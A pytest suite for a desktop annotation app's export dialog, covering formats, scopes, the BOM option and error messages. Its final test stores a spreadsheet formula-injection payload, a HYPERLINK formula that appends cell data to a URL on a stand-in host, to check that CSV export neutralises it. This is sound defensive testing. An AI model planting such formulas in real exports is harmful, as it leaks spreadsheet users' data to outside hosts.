"""File ▸ Export: every format through the dialog, scopes, the BOM option, and clear errors."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from PySide6.QtCore import QSettings
from pytestqt.qtbot import QtBot

from desktop_app.exporters import EXPORTERS, ExportError, ExportFormat, suggested_file_name
from desktop_app.ui.files.export_dialog import ExportController, ExportDialog
from desktop_app.ui.reading import pane_layout
from desktop_app.ui.shell.main_window import MainWindow
from tests.exporters.checks import assert_valid_qdc, assert_valid_qde, qdpx_members, w3c_problems
from tests.exporters.sample import ECONOMICS, sample_project
from tests.ui.conftest import WindowFactory
from tests.ui.helpers import FakePrompter


@pytest.fixture(autouse=True)
def isolated_layouts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ini = tmp_path / "layouts.ini"
    monkeypatch.setattr(
        pane_layout, "layout_settings", lambda: QSettings(str(ini), QSettings.Format.IniFormat)
    )


@pytest.fixture
def window(make_window: WindowFactory) -> MainWindow:
    return make_window(sample_project())


def open_dialog(window: MainWindow) -> ExportDialog:
    window.commands["file.export"].trigger()
    dialog = window.findChild(ExportController, "exporter").dialog  # type: ignore[union-attr]
    assert isinstance(dialog, ExportDialog)
    assert dialog.isVisible()
    return dialog


def choose_format(dialog: ExportDialog, format_id: str) -> None:
    index = dialog.format_box.findData(format_id)
    assert index >= 0
    dialog.format_box.setCurrentIndex(index)


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def check_file(format_id: str, data: bytes, window: MainWindow) -> None:
    """The written file is what the format promises."""
    project = window.document.project
    if format_id == "w3c":
        assert w3c_problems(data) == []
        document = json.loads(data)
        # The annotations, then one linking annotation per link.
        assert document["total"] == len(project.annotations) + len(project.links)
        ids = {item["id"] for item in document["first"]["items"]}
        assert ids == {f"urn:uuid:{r.id}" for r in (*project.annotations, *project.links)}
    elif format_id == "qdpx":
        members = qdpx_members(data)
        assert_valid_qde(members["project.qde"])
        assert sum(name.startswith("sources/") for name in members) == len(project.articles)
    elif format_id == "qdc":
        assert_valid_qdc(data)
    elif format_id == "csv":
        rows = csv_rows(data)
        assert {r["article_title"] for r in rows} <= {a.title for a in project.articles}
        assert len(rows) >= len(project.annotations) - 1
    elif format_id == "codebook-csv":
        names = {r["name"] for r in csv_rows(data)}
        assert names == {c.name for c in project.codes}
    else:
        text = data.decode("utf-8")
        for article in project.articles:
            assert article.title in text or article.title.replace("&", "&amp;") in text


@pytest.mark.parametrize("format_id", list(EXPORTERS))
def test_each_format_through_the_dialog(
    format_id: str, tmp_path: Path, window: MainWindow, prompter: FakePrompter
) -> None:
    dialog = open_dialog(window)
    choose_format(dialog, format_id)
    target = tmp_path / f"out{EXPORTERS[format_id].extension}"
    prompter.export_paths.append(target)
    dialog.accept()
    expected_name = suggested_file_name(window.document.project, dialog.choice().scope, format_id)
    assert prompter.asked[-1] == f"export_path:{expected_name}"
    data = target.read_bytes()
    check_file(format_id, data, window)
    assert not data.startswith(b"\xef\xbb\xbf")
    assert not list(tmp_path.glob(".*"))  # no temporary file left behind
    assert not Path(str(target) + "~").exists()  # exports keep no backup
    assert str(target) in window.statusBar().currentMessage()


def test_scope_one_article_and_bom(
    tmp_path: Path, window: MainWindow, prompter: FakePrompter
) -> None:
    project = window.document.project
    second = project.articles.at(1)
    dialog = open_dialog(window)
    choose_format(dialog, "csv")
    assert dialog.bom_box.isEnabled()
    dialog.article_button.setChecked(True)
    dialog.article_box.setCurrentIndex(1)
    dialog.bom_box.setChecked(True)
    expected = len(project.annotations_of(second.id))
    assert f"{expected} annotation" in dialog.summary.text()
    target = tmp_path / "second.csv"
    prompter.export_paths.append(target)
    dialog.accept()
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = csv_rows(data)
    assert rows
    assert {r["article_id"] for r in rows} == {second.id}


def test_scope_one_tag(tmp_path: Path, window: MainWindow, prompter: FakePrompter) -> None:
    dialog = open_dialog(window)
    choose_format(dialog, "w3c")
    assert not dialog.bom_box.isEnabled()
    dialog.tag_button.setChecked(True)
    dialog.tag_box.setCurrentIndex(dialog.tag_box.findData(ECONOMICS))
    target = tmp_path / "economics"
    prompter.export_paths.append(target)
    dialog.accept()
    written = target.with_name("economics.jsonld")
    data = written.read_bytes()
    assert w3c_problems(data) == []
    items = json.loads(data)["first"]["items"]
    assert items
    for item in items:
        bodies = item["body"] if isinstance(item["body"], list) else [item["body"]]
        tags = {b.get("value") for b in bodies if b.get("purpose") == "tagging"}
        assert tags == {"economics"}


def test_codebook_formats_offer_no_article_scope(window: MainWindow) -> None:
    dialog = open_dialog(window)
    dialog.article_button.setChecked(True)
    choose_format(dialog, "qdc")
    assert not dialog.article_button.isEnabled()
    assert dialog.all_button.isChecked()
    assert dialog.choice().scope.article_id is None
    dialog.reject()


def test_cancelling_the_destination_writes_nothing(
    tmp_path: Path, window: MainWindow, prompter: FakePrompter
) -> None:
    dialog = open_dialog(window)
    prompter.export_paths.append(None)
    dialog.accept()
    assert {p.name for p in tmp_path.iterdir()} <= {"layouts.ini"}
    assert prompter.errors == []


def test_an_unwritable_destination_is_named(
    tmp_path: Path, window: MainWindow, prompter: FakePrompter
) -> None:
    target = tmp_path / "missing-folder" / "out.csv"
    dialog = open_dialog(window)
    choose_format(dialog, "csv")
    prompter.export_paths.append(target)
    dialog.accept()
    [(title, message)] = prompter.errors
    assert title == "Could not export"
    assert str(target) in message
    assert not target.exists()


def test_an_export_error_is_shown_and_nothing_is_written(
    tmp_path: Path, window: MainWindow, prompter: FakePrompter, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(self: ExportFormat, *_args: object) -> bytes:
        raise ExportError("the annotations cannot be written in this format")

    monkeypatch.setattr(ExportFormat, "export", refuse)
    target = tmp_path / "out.jsonld"
    dialog = open_dialog(window)
    prompter.export_paths.append(target)
    dialog.accept()
    [(title, message)] = prompter.errors
    assert title == "Could not export"
    assert "cannot be written in this format" in message
    assert not target.exists()


def test_the_shortcut_opens_the_dialog(qtbot: QtBot, window: MainWindow) -> None:
    assert window.commands["file.export"].shortcut().toString() == "Ctrl+E"
    assert window.commands["file.export"] in window.menus["file"].actions()
    dialog = open_dialog(window)
    dialog.reject()
    qtbot.waitUntil(lambda: window.findChild(ExportController, "exporter").dialog is None)  # type: ignore[union-attr]


def test_a_name_ending_like_another_format_is_questioned(
    tmp_path: Path, window: MainWindow, prompter: FakePrompter
) -> None:
    dialog = open_dialog(window)
    choose_format(dialog, "csv")
    typed = tmp_path / "passages.html"  # the report's ending, with CSV chosen
    prompter.export_paths.append(typed)
    prompter.choices.append("Save as “passages.csv”")
    dialog.accept()
    title, message, choices = prompter.questions[-1]
    assert title == "The file name does not match the format"
    assert ".html" in message
    assert ".csv" in message
    assert choices[-1] == "Cancel"
    assert (tmp_path / "passages.csv").exists()
    assert not typed.exists()
    assert csv_rows((tmp_path / "passages.csv").read_bytes())

    for answer, written in (("Keep “passages.html”", True), ("Cancel", False)):
        typed.unlink(missing_ok=True)
        dialog = open_dialog(window)
        choose_format(dialog, "csv")
        prompter.export_paths.append(typed)
        prompter.choices.append(answer)
        dialog.accept()
        assert typed.exists() is written


def test_csv_is_safe_for_spreadsheets_unless_raw_is_chosen(
    tmp_path: Path, make_window: WindowFactory, prompter: FakePrompter
) -> None:
    from desktop_app.core.annotation_edits import set_note

    window = make_window(sample_project())
    project = window.document.project
    annotation = next(iter(project.annotations))
    window.document.push(set_note(project, annotation.id, '=HYPERLINK("http://x.test/"&A2)'))
    notes = {}
    for raw in (False, True):
        dialog = open_dialog(window)
        choose_format(dialog, "csv")
        assert dialog.raw_box.isEnabled()
        dialog.raw_box.setChecked(raw)
        target = tmp_path / f"raw-{raw}.csv"
        prompter.export_paths.append(target)
        dialog.accept()
        rows = csv_rows(target.read_bytes())
        notes[raw] = next(r["note"] for r in rows if r["note"].lstrip("'").startswith("=HYPER"))
    assert notes[False].startswith("'=")  # a spreadsheet shows it as text
    assert notes[True].startswith("=HYPERLINK")  # exactly as typed, for R and pandas
    dialog = open_dialog(window)
    choose_format(dialog, "w3c")
    assert not dialog.raw_box.isEnabled()
